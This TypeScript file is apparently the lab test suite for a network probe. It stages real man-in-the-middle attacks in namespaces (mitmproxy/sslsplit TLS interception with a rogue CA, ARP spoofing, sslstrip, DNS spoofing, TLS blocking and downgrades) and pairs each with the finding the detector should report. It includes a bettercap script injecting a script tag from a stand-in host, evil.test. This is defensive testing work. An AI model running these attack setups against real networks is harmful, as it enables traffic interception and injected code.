import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ProbeFindingId } from '@vedette/contracts';
import type { Authority, Credential } from '../in-the-middle/authority.ts';
import type { Running } from './programs.ts';
import { ADDRESS, type Topology } from './topology.ts';

/** What a case has at hand. */
export interface NetlabContext {
  readonly net: Topology;
  /** An empty folder of its own. */
  readonly folder: string;
  readonly zone: string;
  readonly rogue: Authority;
  /** Certificate of `rogue` for the zone. */
  readonly forged: Credential;
  /** The probe server as it runs. */
  readonly server: { stop(): Promise<void>; start(): Promise<void> };
}

/** What was set up: how often it did its work, and its end. */
export interface SetUp {
  fired(): Promise<number>;
  stop(): Promise<void>;
}

/** One attack with a real tool, or one honest condition, in the namespaces. */
export interface NetlabCase {
  readonly name: string;
  /** Programs that it needs. */
  readonly needs: readonly string[];
  readonly trustsRogue?: boolean;
  readonly start: (context: NetlabContext) => Promise<SetUp>;
  /** Attacks: any of these says what it is. Without: an honest condition. */
  readonly expect?: readonly ProbeFindingId[];
}

type Rule = readonly string[];

/** Packets that the counted rules of a host met. */
async function packets(net: Topology, host: 'atk' | 'gw', table: string, chain: string): Promise<number> {
  const { output } = await net.attempt(host, 'iptables', '-t', table, '-vnxL', chain);
  return output
    .split('\n')
    .slice(2)
    .reduce((sum, line) => sum + (Number(line.trim().split(/\s+/)[0]) || 0), 0);
}

/** The client's way out leads over the attacker, who takes what goes to these ports. */
async function evilGateway(net: Topology, taken: Readonly<Record<string, number>>): Promise<void> {
  await net.run('cli', 'ip', 'route', 'replace', 'default', 'via', ADDRESS.atk);
  await net.run('atk', 'iptables', '-t', 'nat', '-A', 'POSTROUTING', '-o', 'eth0', '-j', 'MASQUERADE');
  for (const [port, to] of Object.entries(taken)) {
    const [number = '', protocol = 'tcp'] = port.split('/');
    await net.run(
      'atk',
      'iptables',
      '-t',
      'nat',
      '-A',
      'PREROUTING',
      '-s',
      ADDRESS.cli,
      '-p',
      protocol,
      '--dport',
      number,
      '-j',
      'REDIRECT',
      '--to-ports',
      String(to),
    );
  }
}

/** A tool at the evil gateway; what it does is counted by the packets that were led to it. */
function atGateway(
  command: (context: NetlabContext) => readonly string[],
  ready: RegExp | null,
  taken: Readonly<Record<string, number>>,
  env: Readonly<Record<string, string>> = {},
): NetlabCase['start'] {
  return async (context) => {
    const { net } = context;
    const tool = net.start('atk', command(context), env);
    if (ready !== null) await tool.printed(ready);
    else await listening(net, 'atk', Object.values(taken));
    await evilGateway(net, taken);
    return { fired: () => packets(net, 'atk', 'nat', 'PREROUTING'), stop: () => tool.stop() };
  };
}

async function listening(net: Topology, host: 'atk' | 'gw', ports: readonly number[]): Promise<void> {
  for (let tries = 0; tries < 100; tries++) {
    const { output } = await net.attempt(host, 'ss', '-lntuH');
    if (ports.every((port) => output.includes(`:${port} `))) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`nobody listens on ${ports.join(', ')}`);
}

/** Rules at the attacker's gateway, or at the real one, that meet what passes. */
function filters(...rules: readonly Rule[]): NetlabCase['start'] {
  return async ({ net }) => {
    await evilGateway(net, {});
    for (const rule of rules) await net.run('atk', 'iptables', '-A', 'FORWARD', '-s', ADDRESS.cli, ...rule);
    return { fired: () => packets(net, 'atk', 'filter', 'FORWARD'), stop: async () => {} };
  };
}

/** A tool that poisons the tables of neighbours; it has done so once the client believes it. */
function poisoner(command: (context: NetlabContext) => readonly string[], write?: string): NetlabCase['start'] {
  return async (context) => {
    const { net } = context;
    // Tools look their targets up in the table of neighbours.
    for (const address of [ADDRESS.cli, ADDRESS.gw]) await net.attempt('atk', 'ping', '-c', '1', '-W', '1', address);
    const tool: Running = net.start('atk', command(context));
    if (write !== undefined) tool.write(write);
    // A host believes unasked answers only about those it knows: the client has to have spoken with its router, as any client has.
    let believed = false;
    for (let tries = 0; tries < 60 && !believed; tries++) {
      await net.attempt('cli', 'ping', '-c', '1', '-W', '1', ADDRESS.probe);
      await new Promise((resolve) => setTimeout(resolve, 200));
      believed = await isPoisoned(net);
    }
    return { fired: async () => (believed ? 1 : 0), stop: () => tool.stop() };
  };
}

async function isPoisoned(net: Topology): Promise<boolean> {
  const { output } = await net.attempt('cli', 'ip', 'neigh', 'show', ADDRESS.gw);
  return output.includes('02:00:00:00:00:66');
}

function files({ folder, rogue, forged }: NetlabContext) {
  const write = (name: string, text: string): string => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return path;
  };
  return {
    key: write('rogue.key', rogue.key),
    certificate: write('rogue.crt', rogue.chain),
    mitmproxy: write('mitmproxy-ca.pem', `${rogue.key}\n${rogue.chain}`),
    haproxy: write('forged.pem', `${forged.chain}\n${forged.key}`),
    write,
  };
}

const mitmproxy =
  (...more: readonly string[]) =>
  (context: NetlabContext): readonly string[] => {
    files(context);
    return [
      'mitmdump',
      '--mode',
      'transparent',
      '--showhost',
      '-p',
      '8080',
      '--set',
      `confdir=${context.folder}`,
      '--set',
      'ssl_insecure=true',
      ...more,
    ];
  };
const MITM_PORTS = { 80: 8_080, 443: 8_080 };
const sslsplit =
  (...more: readonly string[]) =>
  (context: NetlabContext): readonly string[] => {
    const { key, certificate } = files(context);
    return [
      'sslsplit',
      '-D',
      '-k',
      key,
      '-c',
      certificate,
      ...more,
      'ssl',
      '0.0.0.0',
      '8443',
      'tcp',
      '0.0.0.0',
      '8080',
    ];
  };
const SPLIT_PORTS = { 80: 8_080, 443: 8_443 };
const bettercap = (...lines: readonly string[]) => [
  'bettercap',
  '-no-colors',
  '-iface',
  'eth0',
  '-gateway-override',
  ADDRESS.gw,
  '-eval',
  lines.join('; '),
];
const hello13 = ['002b0003020304', '002b0005040304', '002b00050403030304'].flatMap((hex) => [hex]);

/** Attacks with the tools that are used for them, in namespaces. */
export const NETLAB_ATTACKS: readonly NetlabCase[] = [
  {
    name: 'mitmproxy, untrusted',
    needs: ['mitmdump'],
    start: atGateway(mitmproxy(), /listening/i, MITM_PORTS),
    expect: ['tls.interception.untrusted_ca'],
  },
  {
    name: 'mitmproxy, trusted',
    needs: ['mitmdump'],
    trustsRogue: true,
    start: atGateway(mitmproxy(), /listening/i, MITM_PORTS),
    expect: ['tls.interception.trusted_ca'],
  },
  {
    name: 'mitmproxy, spares the probe',
    needs: ['mitmdump'],
    trustsRogue: true,
    start: atGateway(mitmproxy('--ignore-hosts', '.*probe\\.lab\\.test'), /listening/i, { 443: 8_080 }),
    expect: ['tls.interception.selective'],
  },
  {
    name: 'mitmproxy, changes pages',
    needs: ['mitmdump'],
    start: atGateway(
      mitmproxy('--modify-body', '|~s & ~t text/html|</body>|<script>alert(1)</script></body>'),
      /listening/i,
      { 80: 8_080 },
    ),
    expect: ['http.content_injection'],
  },
  {
    name: 'sslsplit, untrusted',
    needs: ['sslsplit'],
    start: atGateway(sslsplit(), null, SPLIT_PORTS),
    expect: ['tls.interception.untrusted_ca'],
  },
  {
    name: 'sslsplit, trusted',
    needs: ['sslsplit'],
    trustsRogue: true,
    start: atGateway(sslsplit(), null, SPLIT_PORTS),
    expect: ['tls.interception.trusted_ca'],
  },
  {
    name: 'sslsplit, held to TLS 1.2',
    needs: ['sslsplit'],
    start: atGateway(sslsplit('-r', 'tls12'), null, SPLIT_PORTS),
    expect: ['tls.interception.untrusted_ca'],
  },
  {
    name: 'haproxy ends TLS with one certificate',
    needs: ['haproxy'],
    start: atGateway(
      (context) => {
        const { haproxy, write } = files(context);
        const config = `global\n maxconn 100\ndefaults\n mode tcp\n timeout connect 5s\n timeout client 10s\n timeout server 10s\nlisten x\n bind 0.0.0.0:8443 ssl crt ${haproxy}\n server s ${ADDRESS.probe}:443 ssl verify none\n`;
        return ['haproxy', '-db', '-f', write('haproxy.cfg', config)];
      },
      null,
      { 443: 8_443 },
    ),
    expect: ['tls.interception.untrusted_ca'],
  },
  {
    name: 'bettercap: ARP and https.proxy',
    needs: ['bettercap'],
    start: poisoner((context) => {
      const { key, certificate } = files(context);
      return bettercap(
        `set arp.spoof.targets ${ADDRESS.cli}`,
        'arp.spoof on',
        `set https.proxy.certificate ${certificate}`,
        `set https.proxy.key ${key}`,
        'https.proxy on',
      );
    }),
    expect: ['tls.interception.untrusted_ca', 'lan.arp_spoofing'],
  },
  {
    name: 'bettercap: ARP, sslstrip and injection',
    needs: ['bettercap'],
    start: poisoner((context) => {
      const script = files(context).write(
        'inject.js',
        "function onResponse(req, res) { if (res.ContentType.indexOf('text/html') == 0) { var body = res.ReadBody(); if (body.indexOf('</body>') != -1) res.Body = body.replace('</body>', '<script src=\"http://evil.test/x.js\"></script></body>'); } }\n",
      );
      return bettercap(
        `set arp.spoof.targets ${ADDRESS.cli}`,
        'arp.spoof on',
        'set http.proxy.sslstrip true',
        `set http.proxy.script ${script}`,
        'http.proxy on',
      );
    }),
    expect: ['http.ssl_strip', 'http.content_injection', 'lan.arp_spoofing'],
  },
  {
    name: 'bettercap: ARP in both directions',
    needs: ['bettercap'],
    start: poisoner(() =>
      bettercap(`set arp.spoof.targets ${ADDRESS.cli}`, 'set arp.spoof.fullduplex true', 'arp.spoof on'),
    ),
    expect: ['lan.arp_spoofing'],
  },
  {
    name: 'ettercap: ARP',
    needs: ['ettercap'],
    start: poisoner(() => [
      'ettercap',
      '-T',
      '-o',
      '-i',
      'eth0',
      '-M',
      'arp:remote',
      `/${ADDRESS.cli}//`,
      `/${ADDRESS.gw}//`,
    ]),
    expect: ['lan.arp_spoofing'],
  },
  {
    name: 'arpspoof',
    needs: ['arpspoof'],
    start: poisoner(() => ['arpspoof', '-i', 'eth0', '-t', ADDRESS.cli, ADDRESS.gw]),
    expect: ['lan.arp_spoofing'],
  },
  {
    name: 'dnsmasq answers every name',
    needs: ['dnsmasq'],
    start: atGateway(
      () => [
        'dnsmasq',
        '-k',
        '--conf-file=/dev/null',
        '--no-resolv',
        '--no-hosts',
        '--port=5353',
        `--address=/#/${ADDRESS.atk}`,
        '--log-queries',
        '--log-facility=-',
        '--user=root',
      ],
      null,
      { '53/udp': 5_353 },
    ),
    expect: ['dns.spoofed_answer'],
  },
  {
    name: 'bettercap: forged names, true ones dropped',
    needs: ['bettercap'],
    start: async (context) => {
      const { net } = context;
      await net.run('atk', 'iptables', '-A', 'FORWARD', '-p', 'udp', '--dport', '53', '-j', 'DROP');
      const spoof = poisoner(() =>
        bettercap(
          `set arp.spoof.targets ${ADDRESS.cli}`,
          'arp.spoof on',
          `set dns.spoof.domains *.lab.test`,
          `set dns.spoof.address ${ADDRESS.atk}`,
          'dns.spoof on',
        ),
      );
      return spoof(context);
    },
    expect: ['dns.spoofed_answer', 'lan.arp_spoofing'],
  },
  {
    name: 'resets greetings with our name',
    needs: ['iptables'],
    start: filters([
      '-p',
      'tcp',
      '--dport',
      '443',
      '-m',
      'string',
      '--string',
      'probe.lab.test',
      '--algo',
      'bm',
      '-j',
      'REJECT',
      '--reject-with',
      'tcp-reset',
    ]),
    expect: ['tls.blocked'],
  },
  {
    name: 'drops greetings with our name',
    needs: ['iptables'],
    start: filters([
      '-p',
      'tcp',
      '--dport',
      '443',
      '-m',
      'string',
      '--string',
      'probe.lab.test',
      '--algo',
      'bm',
      '-j',
      'DROP',
    ]),
    expect: ['tls.blocked'],
  },
  {
    name: 'resets greetings that offer TLS 1.3',
    needs: ['iptables'],
    start: filters(
      ...hello13.map((hex) => [
        '-p',
        'tcp',
        '--dport',
        '443',
        '-m',
        'string',
        '--hex-string',
        `|${hex}|`,
        '--algo',
        'bm',
        '-j',
        'REJECT',
        '--reject-with',
        'tcp-reset',
      ]),
    ),
    expect: ['tls.downgrade'],
  },
  {
    name: 'drops what follows the handshake',
    needs: ['iptables'],
    start: filters([
      '-p',
      'tcp',
      '--dport',
      '443',
      '-m',
      'connbytes',
      '--connbytes',
      '900:',
      '--connbytes-dir',
      'original',
      '--connbytes-mode',
      'bytes',
      '-j',
      'DROP',
    ]),
    expect: ['tls.blocked'],
  },
  {
    name: 'refuses connections to port 443',
    needs: ['iptables'],
    start: filters(['-p', 'tcp', '--dport', '443', '-j', 'REJECT', '--reject-with', 'tcp-reset']),
    expect: ['tls.blocked'],
  },
  {
    name: 'drops connections to port 443',
    needs: ['iptables'],
    start: filters(['-p', 'tcp', '--dport', '443', '-j', 'DROP']),
    expect: ['tls.blocked'],
  },
  {
    name: 'drops questions about names',
    needs: ['iptables'],
    start: filters(['-p', 'udp', '--dport', '53', '-j', 'DROP'], ['-p', 'tcp', '--dport', '53', '-j', 'DROP']),
    expect: ['dns.blocked'],
  },
  {
    name: 'shows a page instead of all in clear text (nginx)',
    needs: ['nginx'],
    start: atGateway(
      (context) => [
        'nginx',
        '-c',
        files(context).write('nginx.conf', nginxConfig(context.folder, "return 200 '<html>Blocked</html>';")),
      ],
      null,
      { 80: 8_081 },
    ),
    expect: ['http.blocked'],
  },
];

function nginxConfig(folder: string, what: string, more = ''): string {
  return `daemon off; pid ${folder}/nginx.pid; error_log ${folder}/nginx.log; events {} http { access_log off; client_body_temp_path ${folder}/b; proxy_temp_path ${folder}/p; fastcgi_temp_path ${folder}/f; uwsgi_temp_path ${folder}/u; scgi_temp_path ${folder}/s; default_type text/html; server { listen 8081; location / { ${what} } } ${more} }`;
}

const portal = (
  more: (context: NetlabContext) => string,
  taken: Readonly<Record<string, number>>,
): NetlabCase['start'] =>
  atGateway(
    (context) => [
      'nginx',
      '-c',
      files(context).write(
        'nginx.conf',
        nginxConfig(context.folder, 'return 302 http://portal.freewifi.test/login;', more(context)),
      ),
    ],
    null,
    taken,
  );

/** The client's side of the gateway is made worse. */
const worse =
  (...command: readonly string[]): NetlabCase['start'] =>
  async ({ net }) => {
    await net.run('gw', ...command);
    return { fired: async () => 1, stop: async () => {} };
  };
const loss =
  (percent: number): NetlabCase['start'] =>
  async ({ net }) => {
    await net.run('gw', 'nft', 'add', 'table', 'ip', 'lossy');
    await net.run('gw', 'nft', 'add', 'chain', 'ip', 'lossy', 'forward', '{ type filter hook forward priority 0 ; }');
    await net.run(
      'gw',
      'nft',
      'add',
      'rule',
      'ip',
      'lossy',
      'forward',
      'numgen',
      'random',
      'mod',
      '100',
      '<',
      String(percent),
      'drop',
    );
    return { fired: async () => 1, stop: async () => {} };
  };

/** Conditions in which nobody attacks. */
export const NETLAB_BENIGN: readonly NetlabCase[] = [
  { name: 'nothing special', needs: [], start: async () => ({ fired: async () => 1, stop: async () => {} }) },
  { name: 'loss of 2 %', needs: ['nft'], start: loss(2) },
  { name: 'loss of 5 %', needs: ['nft'], start: loss(5) },
  { name: 'loss of 10 %', needs: ['nft'], start: loss(10) },
  { name: 'loss of 20 %', needs: ['nft'], start: loss(20) },
  {
    name: '128 kbit/s',
    needs: ['tc'],
    start: worse(
      'tc',
      'qdisc',
      'add',
      'dev',
      'eth0',
      'root',
      'tbf',
      'rate',
      '128kbit',
      'burst',
      '5kb',
      'latency',
      '400ms',
    ),
  },
  {
    name: 'another router with the same rights',
    needs: [],
    start: async ({ net }) => {
      await net.run('cli', 'ip', 'route', 'replace', 'default', 'via', ADDRESS.atk);
      await net.run('atk', 'iptables', '-t', 'nat', '-A', 'POSTROUTING', '-o', 'eth0', '-j', 'MASQUERADE');
      return { fired: async () => 1, stop: async () => {} };
    },
  },
  {
    name: 'captive portal, refuses TLS',
    needs: ['nginx'],
    start: async (context) => {
      const shown = await portal(() => '', { 80: 8_081 })(context);
      await context.net.run(
        'atk',
        'iptables',
        '-A',
        'FORWARD',
        '-s',
        ADDRESS.cli,
        '-p',
        'tcp',
        '--dport',
        '443',
        '-j',
        'REJECT',
        '--reject-with',
        'tcp-reset',
      );
      return shown;
    },
  },
  {
    name: 'captive portal, drops TLS',
    needs: ['nginx'],
    start: async (context) => {
      const shown = await portal(() => '', { 80: 8_081 })(context);
      await context.net.run(
        'atk',
        'iptables',
        '-A',
        'FORWARD',
        '-s',
        ADDRESS.cli,
        '-p',
        'tcp',
        '--dport',
        '443',
        '-j',
        'DROP',
      );
      return shown;
    },
  },
  {
    name: 'transparent tinyproxy',
    needs: ['tinyproxy'],
    start: atGateway(
      (context) => [
        'tinyproxy',
        '-d',
        '-c',
        files(context).write(
          'tinyproxy.conf',
          `Port 8888\nListen 0.0.0.0\nTimeout 60\nViaProxyName "corp-proxy"\nDisableViaHeader No\nReverseOnly Yes\nReversePath "/" "http://${ADDRESS.probe}/"\n`,
        ),
      ],
      null,
      { 80: 8_888 },
    ),
  },
  {
    name: 'names that do not exist get an address (dnsmasq)',
    needs: ['dnsmasq'],
    start: atGateway(
      ({ zone }) => [
        'dnsmasq',
        '-k',
        '--conf-file=/dev/null',
        '--no-resolv',
        '--no-hosts',
        '--port=5353',
        `--server=/${zone}/${ADDRESS.probe}`,
        '--address=/#/198.51.100.1',
        '--user=root',
      ],
      null,
      { '53/udp': 5_353 },
    ),
  },
  {
    name: 'the server is down',
    needs: [],
    start: async ({ server }) => {
      await server.stop();
      return { fired: async () => 1, stop: () => server.start() };
    },
  },
];
